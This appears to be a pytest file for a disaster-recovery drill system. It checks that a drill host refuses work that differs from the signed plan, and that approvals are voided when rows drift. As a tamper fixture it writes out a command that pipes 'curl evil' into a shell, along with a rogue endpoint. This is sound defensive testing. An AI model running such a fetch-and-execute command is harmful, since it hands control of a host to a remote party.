"""What a drill host is told is what people signed, or it begins nothing of it."""

from __future__ import annotations

from pathlib import Path

import pytest
from msgspec import structs

from recovery.agent.drills.approved import DrillApprovals
from recovery.backups.models import Store
from recovery.core import transitions
from recovery.core.wire.drills import DrillList, what_of
from recovery.drp.approvals.proofs import party
from recovery.drp.drills.models import DrillHost
from recovery.drp.drills.specs import list_of
from recovery.drp.facts import RunState
from recovery.drp.plan import canonical, digest, read_plan
from recovery.drp.planning.drift import OLD_DRILL, drift
from recovery.drp.press import Press, refuse_press
from recovery.drp.queries.approvals import plan_of
from recovery.drp.sights import RunSight
from recovery.inventory.models import Application
from tests.actions.drp.drills.ground import hosted, make_drill
from tests.support.fleet import BY, NOW

pytestmark = pytest.mark.django_db


def refused(pins: Path, told: DrillList) -> list[str]:
    host = DrillApprovals(pins, party())
    return [host.refuse(wish, told.words) for wish in told.wishes]


def test_its_host_begins_what_was_signed_and_nothing_that_a_lying_row_says_instead(
    pinned: Path,
) -> None:
    drill = hosted(pinned)
    drill.play()
    assert drill.agent is not None
    told, plan = drill.agent.told, plan_of(drill.ground.run)
    assert refused(pinned, told) == ["", ""]
    signed = {one.target.split(":")[1]: one.what for one in plan.things}
    assert {wish.target: what_of(wish) for wish in told.wishes} == signed
    assert signed[told.wishes[0].target]["store"]["endpoint"] == "http://osu2:8333"
    assert read_plan(canonical(plan), digest(plan)) == plan
    lies: tuple[tuple[Store | Application, dict[str, object]], ...] = (
        (Store.objects.get(name="s3-osu2"), {"address": "http://evil:8333"}),
        (Application.objects.get(), {"command": ["sh", "-c", "curl evil | sh"]}),
    )
    for row, lie in lies:
        transitions.amend(row, lie, action="moved", actor=BY, reason="As ever.", now=NOW)
    assert refused(pinned, list_of(DrillHost.objects.get())) == [
        "its store’s endpoint is not what people signed.",
        "its container’s command is not what people signed.",
    ]


def test_what_would_be_begun_otherwise_by_now_voids_the_approvals(pinned: Path) -> None:
    drill = make_drill(pinned)
    drill.round()
    store = Store.objects.get(name="s3-osu2")
    moved = {"address": "http://other:8333"}
    transitions.amend(store, moved, action="moved", actor=BY, reason="New racks.", now=NOW)
    drill.round()
    drill.round()
    assert drill.ground.run.state == "paused"
    assert "notes would be begun otherwise than it was approved." in drill.ground.run.state_reason


def test_a_drill_that_was_prepared_before_an_update_says_why_it_begins_nothing(
    pinned: Path,
) -> None:
    plan = plan_of(make_drill(pinned).ground.run)
    before = structs.replace(plan, v=4, things=())
    assert drift(before, plan) == (OLD_DRILL,)
    over = [step.id for step in plan.steps]
    assert drift(before, plan, ended=over) == (), "what stands is cleaned up"
    told = RunSight("1", before, digest(before), RunState.PREPARED, {}, drift=(OLD_DRILL,))
    said = refuse_press(Press.START, told, frozenset({"responder"}))
    assert said == f"What was shown is not so any more. {OLD_DRILL} Prepare it anew."
